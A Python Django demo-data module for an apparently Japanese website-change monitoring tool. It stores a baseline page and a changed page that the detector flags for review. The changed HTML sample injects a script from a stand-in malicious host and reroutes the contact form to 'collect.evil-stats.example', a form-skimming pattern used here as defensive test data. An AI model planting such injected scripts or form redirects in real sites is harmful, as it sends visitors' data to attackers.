"""Demo data: a watched page with a stored baseline and one detected change (no network)."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from django.utils import timezone

from .compare import compare
from .fingerprint import fingerprint
from .models import ChangeStatus, PageChange, PageState, Snapshot, WatchedPage
from .services import ALL_KINDS, sync_findings

DEMO_URL = "https://www.demo.example.jp/"
BEFORE = """<html><head><title>デモ株式会社</title><script src="/static/site.js"></script></head>
<body><h1>デモ株式会社</h1><p>地域の暮らしを支える小さな会社です。</p>
<p>お問い合わせ：03-0000-0000（平日 9:00-18:00）</p>
<form action="/contact" method="post"><input name="mail"></form></body></html>"""
AFTER = """<html><head><title>デモ株式会社</title><script src="/static/site.js"></script>
<script src="https://cdn.evil-stats.example/x.js"></script></head>
<body><h1>デモ株式会社</h1><p>地域の暮らしを支える小さな会社です。</p>
<p>お問い合わせ：03-0000-0000（平日 9:00-18:00）</p>
<form action="https://collect.evil-stats.example/post" method="post"><input name="mail"></form>
</body></html>"""


def build(ctx: Any) -> None:
    from mamori.inventory.models import Website

    org = ctx.org
    now = timezone.now()
    website = Website.objects.filter(organization=org).first()
    before = fingerprint(BEFORE.encode(), page_url=DEMO_URL)
    after = fingerprint(AFTER.encode(), page_url=DEMO_URL)
    change = compare(before, after, site_domain="demo.example.jp")
    # Stored directly and not scheduled: `mamori demo` never fetches the internet.
    page = WatchedPage.objects.create(
        organization=org,
        website=website,
        url=DEMO_URL,
        interval_minutes=60,
        expected_keywords="デモ株式会社\n03-0000-0000",
        ignore_selectors=".visitor-count",
        baseline=before.to_dict(),
        baseline_at=now - timedelta(days=14),
        last_checked_at=now - timedelta(minutes=20),
        last_status=200,
        certificate={
            "not_after": (now + timedelta(days=12)).isoformat(),
            "days_left": 12,
            "stage": "14",
            "subject": "www.demo.example.jp",
            "issuer": "Demo CA",
            "verified": True,
            "issues": [],
        },
        cert_checked_at=now - timedelta(hours=2),
    )
    first = Snapshot.objects.create(
        organization=org,
        page=page,
        fetched_at=now - timedelta(days=14),
        status=200,
        raw_sha256=before.raw_sha256,
        structure_sha256=before.structure_sha256,
        text_sha256=before.text_sha256,
        fingerprint=before.to_dict(),
    )
    latest = Snapshot.objects.create(
        organization=org,
        page=page,
        fetched_at=now - timedelta(minutes=20),
        status=200,
        raw_sha256=after.raw_sha256,
        structure_sha256=after.structure_sha256,
        text_sha256=after.text_sha256,
        fingerprint=after.to_dict(),
        level=change.level,
    )
    pending = PageChange.objects.create(
        organization=org,
        page=page,
        snapshot=latest,
        baseline=before.to_dict(),
        detected_at=latest.fetched_at,
        level=change.level,
        reasons=[item.to_dict() for item in change.reasons],
        status=ChangeStatus.OPEN,
    )
    assert first.pk is not None
    page.pending_change = pending
    page.state = PageState.DANGER if change.level == "danger" else PageState.CHANGED
    page.save(update_fields=["pending_change", "state"])
    sync_findings(org, ALL_KINDS)
    ctx.notes.append(f"monitoring: {DEMO_URL} has a suspicious change awaiting review")
